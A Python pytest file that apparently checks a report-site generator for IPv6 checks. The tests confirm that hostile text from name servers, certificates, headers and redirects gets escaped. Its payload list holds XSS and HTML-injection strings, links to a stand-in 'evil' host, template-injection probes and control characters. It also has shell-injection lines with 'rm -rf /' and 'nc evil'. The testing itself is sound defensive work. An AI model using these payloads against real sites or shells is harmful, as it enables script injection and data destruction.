"""Hostile text in every field that comes from lists, servers, certificates and name servers: shown, never obeyed."""

import unicodedata
from collections import Counter
from dataclasses import replace
from pathlib import Path

import pytest

from ipv6check.facts import (
    Certificate,
    Chain,
    Evidence,
    Fetch,
    NameWeb,
    ResolutionFacts,
    ResourceFacts,
    RouteFact,
    WebFacts,
)
from ipv6check.model import Failure, FailureKind, Stage, Target, Verdict
from ipv6check.reports.site import write_site
from ipv6check.score import Card
from tests.reports.html_page import Page, pages_of
from tests.reports.sample_city import BEST, CITY, City, card_of, sample_city
from tests.reports.sample_site import NOON

PAYLOADS = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "' onmouseover='alert(1)",
    '" onmouseover="alert(1)',
    '" style="position:fixed',
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><b>",
    "</pre></code><iframe src=//evil>",
    "</textarea><a href=//evil>x</a>",
    "<!-- ",
    "--><b>x</b>",
    "]]><b>x</b>",
    "<![CDATA[<b>x</b>]]>",
    "<?php echo 1 ?>",
    "{{ 7*7 }}",
    "{% raw %}",
    "${7*7}",
    "%(name)s %s %n",
    "{name} {0} {__class__}",
    "&lt;b&gt; &#60;b&#62; &amp;",
    "<a href='javascript:alert(1)'>x</a>",
    "<base href=//evil/>",
    "<meta http-equiv=refresh content='0;url=//evil'>",
    "<link rel=stylesheet href=//evil.css>",
    "<form action=//evil><input name=x>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<details open ontoggle=alert(1)>",
    "\u202egpj.exe\u202c",
    "\u2066a\u2069\u200b\u200f\u061c",
    "\x00\x07\x1b[31mred\x1b[0m\x9b31m",
    "line\r\nSet-Cookie: x=1\u2028\u2029",
    "\ufeff\ufffe\U000e0041",
    "a" + "\u0301" * 200,
    "x" * 20_000,
    "$(rm -rf /); `id` | nc evil 1 && true",
)
LISTED = ("agency", "note", "contact")
ACTING = {"Cc", "Cf", "Zl", "Zp", "Cs", "Co"}
LARGEST = 700_000
"""Characters of the largest page: the overview of so many domains."""


def spoiled(evidence: Evidence, field: str, text: str) -> tuple[Card, Evidence]:
    """A card with a hostile text in one field, and the evidence it was judged by."""
    assert evidence.target is not None
    assert evidence.web is not None
    card = card_of(evidence)
    if field == "domain":
        return replace(card, target=replace(evidence.target, domain=text)), evidence
    target: Target = replace(evidence.target, **{field: text}) if field in LISTED else evidence.target
    evidence = replace(evidence, target=target, web=spoiled_web(evidence.web, field, text))
    if field in SPOIL:
        evidence = SPOIL[field](evidence, text)
    card = card_of(evidence)
    if field == "argument":
        card = replace(card, verdicts={id_: with_argument(verdict, text) for id_, verdict in card.verdicts.items()})
    return card, evidence


def spoiled_servers(evidence: Evidence, text: str) -> Evidence:
    """Name servers whose names, glue and failures are hostile."""
    facts = evidence.nameservers
    assert facts is not None
    hosts = tuple(
        replace(host, name=text + host.name, lookups=replace(host.lookups, name=text + host.name)) for host in facts.hosts
    )
    names = tuple(host.name for host in hosts)
    return replace(evidence, nameservers=replace(facts, hosts=hosts, from_parent=names, from_child=names))


def spoiled_way(evidence: Evidence, text: str) -> Evidence:
    """A way from the root that ends in a zone with a hostile name, for hostile reasons."""
    assert evidence.resolution is not None
    way = evidence.resolution.iterations[0]
    failure = Failure(kind=FailureKind.PROTOCOL, stage=Stage.DNS, detail=text)
    asked = tuple(
        replace(a, host=text, name=text, zone=text, tries=tuple(replace(t, failure=failure, answer=None) for t in a.tries))
        for a in way.steps[-1].asked
    )
    last = replace(
        way.steps[-1], zone=text, asked=asked, unusable=((text, text), ("ns1.vn", "unresolved")), via=(f"ns1.vn: {text}",)
    )
    way = replace(way, steps=(*way.steps[:-1], replace(last, is_answered=False)), broken=text, rcode="")
    return replace(evidence, resolution=ResolutionFacts(iterations=(way,)))


def spoiled_tables(evidence: Evidence, text: str) -> Evidence:
    """Tables of prefixes, holders and AS numbers that say something hostile."""

    def bad(facts: ResourceFacts | None) -> ResourceFacts:
        route = RouteFact(prefix=text, origin=1, as_name=text, origin_country=text, validity=text)
        changed = {"routes": (route,), "holder": text, "country": text, "problems": ((text, text),), "dates": ((text, NOON),)}
        return ResourceFacts(
            addresses=tuple(replace(a, **changed) for a in (facts.addresses if facts else ()))  # type: ignore[arg-type]
        )

    return replace(evidence, resources=bad(evidence.resources), server_resources=bad(evidence.server_resources))


SPOIL = {"servers": spoiled_servers, "way": spoiled_way, "tables": spoiled_tables}
"""What comes from name servers, from the way to a name, and from tables."""


def with_argument(verdict: Verdict, text: str) -> Verdict:
    """Every text among the arguments replaced."""
    args = {
        key: text if isinstance(value, str) else [text] if isinstance(value, list) else value
        for key, value in verdict.args.items()
    }
    return replace(verdict, args=args)


def spoiled_web(web: WebFacts, field: str, text: str) -> WebFacts:
    """Certificates, headers or redirects that say something hostile."""
    if field == "issuer":
        bad = {"issuer": text, "subject": text, "names": (text,), "key_type": text}
        return replace(web, certificates=tuple(replace_certificate(c, bad) for c in web.certificates))
    names = tuple(spoiled_name(name, field, text) for name in web.names)
    return replace(web, names=names) if field in {"header", "location", "redirect"} else web


def replace_certificate(certificate: Certificate, fields: dict[str, object]) -> Certificate:
    """A certificate with other texts."""
    return replace(certificate, **fields)  # type: ignore[arg-type]


def spoiled_name(name: NameWeb, field: str, text: str) -> NameWeb:
    """One name whose answers are hostile."""

    def fetch(one: Fetch) -> Fetch:
        if field == "location":
            return replace(one, headers=(("location", text),), status=302)
        return replace(one, headers=(("server", text), ("strict-transport-security", text)))

    def chain(one: Chain) -> Chain:
        return replace(one, hops=tuple(replace(hop, url=text, host=text) for hop in one.hops))

    if field == "redirect":
        return replace(name, chains=tuple(chain(one) for one in name.chains))
    return replace(name, addresses=tuple(replace(at, https=tuple(map(fetch, at.https))) for at in name.addresses))


def shape(pages: list[Page]) -> Counter[tuple[str, tuple[str, ...]]]:
    """How many elements there are of each tag with each set of attributes."""
    return Counter((element.tag, tuple(sorted(element.attributes))) for page in pages for element in page.elements)


@pytest.fixture(scope="module")
def harmless(pages: list[Page]) -> set[tuple[str, tuple[str, ...]]]:
    """Every kind of element that the pages of harmless cards have."""
    return set(shape(pages))


@pytest.fixture(scope="module")
def many() -> City:
    """As many harmless domains as there are payloads, with findings of their own."""
    _, agency, kind, site = next(row for row in CITY if row[0] == "trungthu.hanoi.gov.vn")
    assert site is not None
    site = replace(site, leads_to="elsewhere.hanoi.gov.vn")
    return sample_city(rows=[(f"d{number}.hanoi.gov.vn", agency, kind, site) for number in range(len(PAYLOADS))])


Kinds = set[tuple[str, tuple[str, ...]]]


@pytest.mark.parametrize("field", [*LISTED, "domain", "issuer", "header", "location", "redirect", "argument", *SPOIL])
def test_hostile_text_adds_no_element(many: City, harmless: Kinds, field: str, tmp_path: Path) -> None:
    """A site of cards each of which has one payload in that field."""
    made = [spoiled(evidence, field, text) for evidence, text in zip(many.evidence.values(), PAYLOADS, strict=True)]
    evidence = {card.target.domain: seen for card, seen in made}
    front = write_site(many.run, [card for card, _ in made], tmp_path / "site", evidence_of=evidence.get)
    pages = pages_of(front.parent)
    for page in pages:
        hold(page, harmless)
    for letter in front.parent.rglob("*.txt"):
        acting = {c for c in letter.read_text("utf-8-sig") if c != "\n" and unicodedata.category(c) in ACTING}
        assert not acting, (letter, acting)
    assert any("&lt;script&gt;alert(1)" in page.source for page in pages), "what was said is shown, as text"
    assert [path.name for path in tmp_path.iterdir()] == ["site"]


@pytest.mark.parametrize("first", range(0, len(PAYLOADS), 5))
def test_a_hostile_run_adds_no_element(many: City, harmless: Kinds, first: int, tmp_path: Path) -> None:
    """What the operator calls a run and a measuring point is text, too."""
    names = dict(zip(("id", "vantage", "country", "version", "rules_version"), PAYLOADS[first : first + 5], strict=True))
    front = write_site(replace(many.run, **names), many.cards[:1], tmp_path / "site")
    for page in pages_of(front.parent):
        hold(page, harmless)


def hold(page: Page, harmless: Kinds) -> None:
    """No new kind of element or attribute, no acting character, no foreign link, no size out of bounds."""
    new = set(shape([page])) - harmless - {("p", ())}
    assert not new, (page.path, new)
    assert not page.unbalanced, page.path
    acting = {c for c in page.source if c != "\n" and unicodedata.category(c) in ACTING}
    assert not acting, (page.path, acting)
    assert len(page.source) < LARGEST, page.path
    for element in page.all("a", "link", "img"):
        address = element["href"] or element["src"]
        is_own = page.path.parent.name == "domain" and address == f"https://{page.path.stem}/"
        assert is_own or ":" not in address, (page.path, address)


def test_commands_to_copy_hold_nothing_a_shell_would_act_on(city: City, tmp_path: Path) -> None:
    """What a server said is percent-encoded where people are told to run it."""
    card, evidence = spoiled(city.evidence["trungthu.hanoi.gov.vn"], "argument", "$(touch /tmp/x);`id`|a&b>c\\'\"\n rm")
    front = write_site(city.run, [card], tmp_path / "site", evidence_of=lambda domain: evidence)
    source = next((front.parent / "domain").iterdir()).read_text(encoding="utf-8")
    for block in source.split("<pre")[1:]:
        command = block.partition("</pre>")[0]
        assert "touch" not in command or "%28touch" in command
        assert "rm\n" not in command


def test_whole_cities_of_hostile_agencies_have_safe_paths(tmp_path: Path) -> None:
    """Every payload as an agency and as a domain at once."""
    rows = [(payload, payload, "so", replace(BEST, signed=False)) for payload in PAYLOADS[:36]]
    city = sample_city(rows=rows)
    front = write_site(city.run, city.cards, tmp_path / "site")
    files = {path.relative_to(front.parent).parts[0] for path in front.parent.rglob("*")}
    assert files == {"index.html", "checks.html", "agency", "badges", "domain", "letters", "en", "static", ".ipv6check-site"}
    assert len(list((front.parent / "agency").iterdir())) == len(rows)
    assert len(list((front.parent / "domain").iterdir())) == len(rows)
